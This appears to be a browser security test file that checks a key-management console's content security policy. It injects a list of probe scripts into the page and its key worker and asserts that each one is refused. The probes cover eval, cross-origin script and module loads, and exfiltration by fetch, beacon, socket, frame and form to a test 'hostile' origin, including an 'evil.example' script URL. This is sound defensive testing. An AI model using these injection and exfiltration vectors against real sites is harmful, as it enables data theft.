// A script that got into the page of the console after all: what the browser refuses it there, and in the worker that holds a main key.
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { chromiumFile, chromiumNeeded } from '../support/chromium.ts';
import { startHostileVenue } from '../support/console/hostile-page.ts';
import { type OpenConsole, openConsole, type Visit } from '../support/console/open-console.ts';
import { createOwner } from '../support/console/owners.ts';

const GIVEN = 120_000;

describe.skipIf(chromiumFile === undefined)(
  `a script in the page of the console${chromiumNeeded}`,
  { timeout: GIVEN },
  () => {
    let opened: OpenConsole;
    let elsewhere: Awaited<ReturnType<typeof startHostileVenue>>;
    beforeAll(async () => {
      elsewhere = await startHostileVenue();
      opened = await openConsole();
    }, GIVEN);
    afterAll(async () => {
      await opened?.close();
      await elsewhere?.close();
    });

    /** `attempt` runs after a turn: what the debugger starts itself is let through. Resolves with its name where it worked. */
    const tried = (page: Page, attempt: string) =>
      page.evaluate<string>(`new Promise((resolve) => setTimeout(async () => {
      const elsewhere = ${JSON.stringify(elsewhere.url)};
      const within = (ms, work) => Promise.race([work, new Promise((_, reject) => setTimeout(() => reject(new Error('nothing came of it')), ms))]);
      const element = (name, members) => Object.assign(document.createElement(name), members);
      const loaded = (one) => within(1500, new Promise((done, failed) => { one.onload = done; one.onerror = () => failed(new Error('did not load')); document.body.append(one); }));
      try { await (async () => { ${attempt} })(); resolve('worked'); } catch (error) { resolve('refused'); }
    }))`);

    const attempts: Readonly<Record<string, string>> = {
      'code from a text': `eval('1')`,
      'code from a text, as a function': `Function('return 1')()`,
      'code from a text, by a timer': `await within(1000, new Promise((done) => { globalThis.ran = done; setTimeout('ran()'); }))`,
      'a script element with a text': `document.body.append(element('script', { textContent: 'globalThis.wasRun = true' })); if (!globalThis.wasRun) throw 0`,
      'a script of another origin': `await loaded(element('script', { src: elsewhere + '/v1/insurance' }))`,
      'a module of another origin': `await within(1500, import(elsewhere + '/v1/insurance'))`,
      'a module from a text': `await within(1500, import('data:text/javascript,export default 1'))`,
      'a module from a blob': `await within(1500, import(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))))`,
      'markup from a text': `document.body.insertAdjacentHTML('beforeend', '<p>')`,
      'markup with a handler': `const one = element('div'); one.setAttribute('onclick', 'globalThis.wasRun = true'); one.click(); if (!globalThis.wasRun) throw 0`,
      'an address of script': `location.href = 'javascript:void(globalThis.wasRun = true)'; await new Promise((done) => setTimeout(done, 300)); if (!globalThis.wasRun) throw 0`,
      'a policy of its own': `trustedTypes.createPolicy('evil', { createHTML: (text) => text })`,
      'the policy that all texts would go through': `trustedTypes.createPolicy('default', { createHTML: (text) => text, createScript: (text) => text })`,
      'the policy of the worker once more': `trustedTypes.createPolicy('countersign-worker', { createScriptURL: (text) => text })`,
      'a worker by its address': `new Worker('/console/assets/x.js')`,
      'a worker from a blob': `new Worker(URL.createObjectURL(new Blob(['1'])))`,
      'a shared worker': `new SharedWorker('/console/assets/x.js')`,
      'a service worker': `await navigator.serviceWorker.register('/console/assets/x.js')`,
      'a request to another origin': `await fetch(elsewhere + '/v1/trades?did=fetch', { mode: 'no-cors' })`,
      'a beacon': `navigator.sendBeacon(elsewhere + '/v1/trades?did=beacon', 'x'); throw 0`,
      'a socket': `await within(1500, new Promise((done, failed) => { const one = new WebSocket(elsewhere.replace('http', 'ws')); one.onopen = done; one.onerror = failed; }))`,
      'a stream of events': `new EventSource(elsewhere + '/v1/trades?did=events'); await new Promise((done) => setTimeout(done, 300)); throw 0`,
      'a picture of another origin': `await loaded(element('img', { src: elsewhere + '/v1/trades?did=picture' }))`,
      'a style sheet of another origin': `await loaded(element('link', { rel: 'stylesheet', href: elsewhere + '/v1/trades?did=style' }))`,
      'a preload of another origin': `await loaded(element('link', { rel: 'preload', as: 'image', href: elsewhere + '/v1/trades?did=preload' }))`,
      'a font of another origin': `await within(1500, new FontFace('x', 'url(' + elsewhere + '/v1/trades?did=font)').load())`,
      'a sound of another origin': `const one = element('audio', { src: elsewhere + '/v1/trades?did=sound' }); document.body.append(one); await new Promise((done) => setTimeout(done, 300)); throw 0`,
      'a frame': `await loaded(element('iframe', { src: elsewhere + '/v1/trades?did=frame' })); throw 0`,
      'a frame of its own': `const one = element('iframe', { srcdoc: '<p>x' }); document.body.append(one); throw 0`,
      'an object': `const one = element('object', { data: elsewhere + '/v1/trades?did=object' }); document.body.append(one); await new Promise((done) => setTimeout(done, 300)); throw 0`,
      'a form that is sent away': `const one = element('form', { action: elsewhere + '/v1/trades?did=form', method: 'post' }); document.body.append(one); one.submit(); await new Promise((done) => setTimeout(done, 300)); throw 0`,
      'another base of all addresses': `document.head.append(element('base', { href: elsewhere + '/' })); if (new URL('x', document.baseURI).origin !== elsewhere) throw 0`,
      'a style element': `const one = element('style', { textContent: 'body { --x: 1 }' }); document.head.append(one); if (getComputedStyle(document.body).getPropertyValue('--x') === '') throw 0`,
      'the clipboard, to read': `await within(1000, navigator.clipboard.readText())`,
      'where the person is': `await within(1000, new Promise((done, failed) => navigator.geolocation.getCurrentPosition(done, failed)))`,
      'the camera': `await navigator.mediaDevices.getUserMedia({ video: true })`,
      'a USB device': `await navigator.usb.requestDevice({ filters: [] })`,
    };

    test('gets no code from a text, sends nothing to another origin and opens nothing of the machine', async () => {
      const { page, ...visit } = await opened.visit();
      await page.waitForLoadState('networkidle');
      elsewhere.serve({});
      const worked: string[] = [];
      for (const [what, attempt] of Object.entries(attempts))
        if ((await tried(page, attempt)) === 'worked') worked.push(what);
      expect(worked).toEqual([]);
      expect(elsewhere.did).toEqual([]);
      expect(await page.evaluate('globalThis.wasRun')).toBeUndefined();
      expect(new URL(page.url()).pathname).toBe('/console/keys/read-only');
      visit.expectProblems(/./);
    });

    test('is not so refused on a page without the policy: each of these is something that a browser does', async () => {
      // A page that the test answers is of no network, and may ask none of this machine.
      const context = { permissions: ['local-network-access'] };
      const { page, ...visit } = await opened.visit({ path: undefined, context });
      await page.route(`${opened.url}/console/keys/**`, async (route) => {
        const response = await route.fetch();
        const { 'content-security-policy': _, 'permissions-policy': __, ...headers } = response.headers();
        await route.fulfill({ response, headers });
      });
      await visit.goTo('/console/keys/read-only');
      await page.waitForLoadState('networkidle');
      elsewhere.serve({});
      const refused: string[] = [];
      for (const what of [
        'code from a text',
        'a script element with a text',
        'a module from a text',
        'markup from a text',
        'markup with a handler',
        'an address of script',
        'a policy of its own',
        'a worker from a blob',
        'another base of all addresses',
        'a style element',
      ])
        if ((await tried(page, attempts[what] ?? '')) === 'refused') refused.push(what);
      expect(refused).toEqual([]);
      for (const what of ['a request to another origin', 'a frame', 'a picture of another origin'])
        await tried(page, attempts[what] ?? '');
      await expect.poll(() => [...elsewhere.did].sort()).toEqual(['fetch', 'frame', 'picture']);
      visit.expectProblems(/./);
    });

    test('has no use of the one policy that it may take: whatever that is handed, it names the worker of a main key', async () => {
      const { page } = await withKeyInWorker((page) =>
        page.addInitScript(`{
          globalThis.policies = [];
          const make = TrustedTypePolicyFactory.prototype.createPolicy;
          TrustedTypePolicyFactory.prototype.createPolicy = function (...given) {
            const policy = make.apply(this, given);
            policies.push([given[0], policy]);
            return policy;
          };
        }`),
      );
      const named = await page.evaluate<string[][]>(`policies.map(([name, policy]) => {
        const made = ['https://evil.example/x.js', 'data:text/javascript,1', '', 'blob:x'].map((text) => String(policy.createScriptURL(text)));
        const others = ['createHTML', 'createScript'].filter((kind) => {
          try { policy[kind]('<p>'); return true; } catch { return false; }
        });
        return [name, ...new Set(made), ...others];
      })`);
      expect(named).toEqual([
        ['countersign-worker', expect.stringMatching(/^\/console\/assets\/main-key\.worker-[\w-]+\.js$/)],
      ]);
    });

    async function withKeyInWorker(prepare: (page: Page) => Promise<unknown> = async () => undefined): Promise<Visit> {
      const owner = await createOwner(opened.url, 'main');
      const visit = await opened.visit({ as: 'stranger', owner, prepare, path: '/console/sign-in?with=key' });
      const { page } = visit;
      await page.getByLabel('Private key', { exact: true }).fill(owner.privateKey);
      await page.getByText(/known here/).waitFor();
      await page.getByRole('button', { name: 'Sign in', exact: true }).click();
      await page.waitForURL(/\/console\/keys\/read-only/);
      return visit;
    }

    test('that stands in the worker of a main key talks to nobody from there, and runs nothing that is not ours', async () => {
      const { page, ...visit } = await withKeyInWorker();
      const [worker] = page.workers();
      elsewhere.serve({});
      const inWorker = (attempt: string) =>
        worker?.evaluate<string>(`new Promise((resolve) => setTimeout(async () => {
        const elsewhere = ${JSON.stringify(elsewhere.url)};
        const within = (ms, work) => Promise.race([work, new Promise((_, reject) => setTimeout(() => reject(new Error('nothing came of it')), ms))]);
        try { await (async () => { ${attempt} })(); resolve('worked'); } catch { resolve('refused'); }
      }))`);
      const worked: string[] = [];
      for (const [what, attempt] of Object.entries({
        'a request to our own server': `await fetch('/countersign/v1/about')`,
        'a request to another origin': `await fetch(elsewhere + '/v1/trades?did=fetch', { mode: 'no-cors' })`,
        'a request of the old kind': `const one = new XMLHttpRequest(); one.open('GET', '/countersign/v1/about', false); one.send()`,
        'a socket': `await within(1500, new Promise((done, failed) => { const one = new WebSocket(elsewhere.replace('http', 'ws')); one.onopen = done; one.onerror = failed; }))`,
        'a stream of events': `new EventSource(elsewhere + '/v1/trades?did=events'); await new Promise((done) => setTimeout(done, 300)); throw 0`,
        'code from a text': `eval('1')`,
        'a module of another origin': `await within(1500, import(elsewhere + '/v1/insurance'))`,
        'a module from a text': `await within(1500, import('data:text/javascript,1'))`,
        'a worker within': `new Worker('/console/assets/x.js')`,
        'a policy of its own': `trustedTypes.createPolicy('countersign-worker', { createScriptURL: (text) => text })`,
        'a font of another origin': `await within(1500, new FontFace('x', 'url(' + elsewhere + '/v1/trades?did=font)').load())`,
      }))
        if ((await inWorker(attempt)) === 'worked') worked.push(what);
      expect(worked).toEqual([]);
      expect(elsewhere.did).toEqual([]);
      visit.expectProblems(/./);
    });
  },
);
